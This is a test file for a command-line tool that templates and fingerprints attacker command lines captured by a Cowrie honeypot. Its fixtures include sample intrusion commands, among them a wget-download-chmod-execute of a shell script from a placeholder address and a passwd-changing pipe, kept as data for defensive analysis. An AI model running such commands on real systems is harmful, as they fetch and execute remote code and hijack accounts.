"""``cowrie-sessionstats fingerprint``: for people, for programs, and for mistakes."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from cowrie_sessionstats.cli import main
from cowrie_sessionstats.commands import Templates, default_vocabulary, fingerprint

LINES = [
    "cd /tmp; wget http://203.0.113.9/x86.sh; chmod 777 x86.sh; sh x86.sh",
    'echo -e "admin\\nZx81\\nZx81"|passwd|bash',
    "/bin/busybox GGDBS",
]
TEMPLATES = [
    "cd /tmp; wget <url>; chmod 777 <name1>; sh <name1>",
    "echo -e <secret> | passwd | bash",
    "/bin/busybox <applet>",
]
FINGERPRINT = fingerprint(LINES, Templates(default_vocabulary()))


def called(*arguments: str, given: str = "") -> Result:
    """Return what the command does with these arguments and this input."""
    return CliRunner().invoke(main, ["fingerprint", *arguments], input=given)


def test_templates_and_the_fingerprint_come_out() -> None:
    """Each line's template, then the fingerprint."""
    result = called(given="\n".join(LINES))
    assert result.exit_code == 0
    assert result.stdout.splitlines() == [*TEMPLATES, FINGERPRINT]


def test_a_file_is_read(tmp_path: Path) -> None:
    """FILE holds the command lines of one session."""
    file = tmp_path / "session"
    file.write_text("\n".join(LINES) + "\n")
    assert called(str(file)).stdout == called(given="\n".join(LINES)).stdout


def test_explain_says_what_was_replaced_and_by_which_rule() -> None:
    """Under each template, what stood there."""
    said = called("--explain", given="\n".join([*LINES, "passwd", "hunter2"])).stdout
    for text in (
        "<url>      http://203.0.113.9/x86.sh  (a URL)",
        "<name1>    x86.sh  (a name that the session made)",
        "<secret>   admin\\nZx81\\nZx81  (it is fed to a program that reads a password)",
        "<applet>   GGDBS  (it is none of BusyBox's applets)",
        "<secret>   hunter2  (a line typed at a password prompt)",
    ):
        assert text in said, said


def test_json_is_one_object() -> None:
    """As the interface says it, and with ``--explain`` what was replaced."""
    result = called("--json", given="\n".join(LINES))
    assert json.loads(result.stdout) == {
        "fingerprint": FINGERPRINT,
        "commands": [
            {"command": line, "template": template}
            for line, template in zip(LINES, TEMPLATES, strict=True)
        ],
    }
    explained = json.loads(called("--json", "--explain", given="\n".join(LINES)).stdout)
    assert explained["commands"][2]["replaced"] == [
        {
            "original": "GGDBS",
            "placeholder": "<applet>",
            "rule": "it is none of BusyBox's applets",
        }
    ]
    assert explained["fingerprint"] == FINGERPRINT


def test_sessions_are_an_object_each() -> None:
    """A JSON list of command lines on each line; an empty one is a session, a blank line none."""
    given = "\n".join([json.dumps(LINES), "", "[]", json.dumps(["a\nb", "\ud800"])])
    result = called("--sessions", given=given)
    assert result.exit_code == 0
    found = [json.loads(line) for line in result.stdout.splitlines()]
    assert [len(session["commands"]) for session in found] == [3, 0, 2]
    assert found[0] == json.loads(called("--json", given="\n".join(LINES)).stdout)
    assert found[2]["commands"][0] == {"command": "a\nb", "template": "a\nb"}


@pytest.mark.parametrize("line", ["5", '["a", 5]', '{"a": 1}', "[", "[" * 100_000, "nonsense"])
def test_a_line_that_is_no_session_is_named(line: str) -> None:
    """Which line, what is wrong, what would be right; what came before is out already."""
    result = called("--sessions", given=f'["w"]\n{line}\n')
    assert result.exit_code == 1
    assert len(result.stdout.splitlines()) == 1
    assert "line 2" in result.stderr
    assert "JSON list of command lines" in result.stderr
    assert "Traceback" not in result.stderr


def test_hostile_text_does_not_reach_the_terminal() -> None:
    """Escape sequences, marks of direction and bytes that are no text are shown as escapes."""
    given = b"echo \x1b[31m\xff\xe2\x80\xae\n"
    done = subprocess.run(
        [sys.executable, "-c", "from cowrie_sessionstats.cli import main; main()", "fingerprint"],
        input=given, capture_output=True, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert b"\x1b" not in done.stdout
    assert done.stdout.decode("ascii").startswith("echo \\x1b[31m")


def test_a_file_that_is_not_there() -> None:
    """An error of one sentence, and status 2."""
    result = called("/no/such/file")
    assert result.exit_code == 2
    assert "No such file" in result.stderr


def test_a_vocabulary_of_ones_own(tmp_path: Path) -> None:
    """It changes what is known, and the object says that it was there."""
    mine = tmp_path / "mine.toml"
    mine.write_text('applets = "GGDBS"\n[program.seturl]\noptions = { "-x" = "secret" }\n')
    shown = json.loads(
        called("--json", "--vocabulary", str(mine), given="busybox GGDBS\nseturl -x abc").stdout
    )
    assert [command["template"] for command in shown["commands"]] == [
        "busybox GGDBS",
        "seturl -x <secret>",
    ]
    assert len(shown["vocabulary"]) == 12
    mine.write_text("applets = 5")
    result = called("--vocabulary", str(mine), given="w")
    assert result.exit_code == 1
    assert f"vocabulary {mine}: `applets` must be a text" in result.stderr
